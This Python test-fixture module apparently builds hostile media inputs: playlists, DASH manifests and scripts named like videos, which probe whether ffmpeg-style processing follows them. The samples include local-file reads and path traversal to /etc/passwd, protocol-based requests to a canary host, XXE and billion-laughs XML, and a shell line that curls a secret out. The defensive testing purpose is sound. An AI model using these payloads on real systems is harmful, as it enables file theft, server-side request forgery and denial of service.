"""Text that a player would follow: playlists, manifests and scripts, named like videos."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.sample import Canaries, Sample


def samples(canaries: Canaries) -> Iterator[Sample]:
    """Every script under a name that is watched."""
    endings = (".mp4", ".mov", ".webm", ".mkv", ".avi")
    for number, (name, text) in enumerate(_scripts(canaries)):
        ending = endings[number % len(endings)]
        yield Sample("scripts", f"{name}{ending}", text.encode(), is_quick=number % 5 == 0)


def _scripts(canaries: Canaries) -> Iterator[tuple[str, str]]:
    yield from _playlists(canaries)
    yield from _manifests(canaries)
    secret, url = canaries.secret, canaries.url
    for scheme, target in _targets(canaries).items():
        yield f"concat-{scheme}", f"ffconcat version 1.0\nfile '{target}'\n"
    yield "concat-unsafe", f"ffconcat version 1.0\noption safe 0\nfile {secret}\nduration 5\n"
    yield "concat-relative", "ffconcat version 1.0\nfile ../../../../../etc/passwd\n"
    yield "concat-self", "ffconcat version 1.0\n" + "file concat-self.mp4\n" * 1_000
    yield "sdp", "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n"
    yield "rtsp", f"rtsptext\n{url.replace('http', 'rtsp')}/a\n"
    yield "pls", f"[playlist]\nFile1={url}/pls\nNumberOfEntries=1\n"
    yield "m3u", f"{url}/m3u\n"
    yield "asx", f'<asx version="3.0"><entry><ref href="{url}/asx"/></entry></asx>'
    yield "ram", f"{url}/ram\n"
    yield "xspf", f"<playlist><trackList><track><location>{url}/x</location></track></trackList>"
    yield "smil", f'<smil><body><video src="{url}/smil"/></body></smil>'
    yield "avisynth", f'DirectShowSource("{secret}")\n'
    yield "vapoursynth", "import os\nos.system('touch /tmp/owned')\n"
    yield "lavfi", f"movie={secret},format=yuv420p"
    yield "ffmetadata", ";FFMETADATA1\n" + "[CHAPTER]\nSTART=0\nEND=1\ntitle=x\n" * 2_000
    yield "image-pattern", "P6\n99999 99999\n255\n"
    yield "html", f'<html><script src="{url}/js"></script><img src="{url}/img"></html>'
    yield "svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret}"/></svg>'
    yield "shell", f"#!/bin/sh\ncurl {url}/shell < {secret}\n"
    yield "python", f"import urllib.request\nurllib.request.urlopen('{url}/python')\n"


def _targets(canaries: Canaries) -> dict[str, str]:
    """The same two places by every protocol ffmpeg has had."""
    url, secret = canaries.url, canaries.secret
    bare = url.removeprefix("http://")
    return {
        "http": f"{url}/t", "file": f"file://{secret}", "plain": str(secret),
        "subfile": f"subfile,,start,0,end,99,,:{secret}", "concat": f"concat:{secret}|{secret}",
        "crypto": f"crypto+file://{secret}", "cache": f"cache:{url}/t", "async": f"async:{url}/t",
        "data": "data:text/plain;base64,Q0FOQVJZ", "tcp": f"tcp://{bare}", "udp": f"udp://{bare}",
        "rtmp": f"rtmp://{bare}/a/b", "rtsp": f"rtsp://{bare}/a", "tls": f"tls://{bare}",
        "ftp": f"ftp://{bare}/t", "gopher": f"gopher://{bare}/_t", "pipe": "pipe:0",
        "unix": "unix:/tmp/socket", "hls": f"hls+{url}/t.m3u8", "srt": f"srt://{bare}",
        "httpproxy": f"httpproxy://{bare}/t", "mmsh": f"mmsh://{bare}/t", "sftp": f"sftp://{bare}/t",
    }  # fmt: skip


def _playlists(canaries: Canaries) -> Iterator[tuple[str, str]]:
    head = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n"
    for scheme, target in _targets(canaries).items():
        yield f"hls-{scheme}", f"{head}#EXTINF:1,\n{target}\n#EXT-X-ENDLIST\n"
    url, secret = canaries.url, canaries.secret
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n'
    yield "hls-key", f"{head}{key}#EXTINF:1,\n{url}/a.ts\n#EXT-X-ENDLIST\n"
    yield "hls-map", f'{head}#EXT-X-MAP:URI="{url}/map"\n#EXTINF:1,\na.ts\n#EXT-X-ENDLIST\n'
    yield "hls-master", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/master.m3u8\n"
    yield "hls-marked", f"\ufeff{head}#EXTINF:1,\n{url}/a.ts\n#EXT-X-ENDLIST\n"
    yield "hls-late", "\n" * 2_000 + f"{head}#EXTINF:1,\n{url}/a.ts\n#EXT-X-ENDLIST\n"
    yield "hls-long", head + f"#EXTINF:1,\n{url}/a.ts\n" * 5_000
    yield "hls-gif", f"GIF89a{head}#EXTINF:1,\nfile://{secret}\n"


def _manifests(canaries: Canaries) -> Iterator[tuple[str, str]]:
    url, secret = canaries.url, canaries.secret
    mpd = '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="{kind}">'
    period = "<Period><AdaptationSet><Representation bandwidth='1'>{base}</Representation></AdaptationSet></Period></MPD>"
    for name, base in {
        "http": f"<BaseURL>{url}/dash</BaseURL>",
        "file": f"<BaseURL>file://{secret}</BaseURL>",
        "template": f'<SegmentTemplate media="{url}/$Number$" initialization="{url}/i"/>',
        "list": f'<SegmentList><SegmentURL media="{url}/s"/></SegmentList>',
    }.items():
        yield f"dash-{name}", mpd.format(kind="static") + period.format(base=base)
    yield "dash-live", mpd.format(kind="dynamic") + period.format(base=f"<BaseURL>{url}/</BaseURL>")
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>'
    yield "dash-entity", f'<?xml version="1.0"?>{entity}<MPD><Period>&x;</Period></MPD>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield (
        "dash-laughs",
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><MPD>&l9;</MPD>',
    )
    yield "smooth", f'<SmoothStreamingMedia><StreamIndex Url="{url}/x"/></SmoothStreamingMedia>'
    yield "imf", f'<CompositionPlaylist xmlns="x"><Id>{url}</Id></CompositionPlaylist>'
    yield "ttml", f'<tt xmlns="http://www.w3.org/ns/ttml"><body xlink="{url}/x"/></tt>'
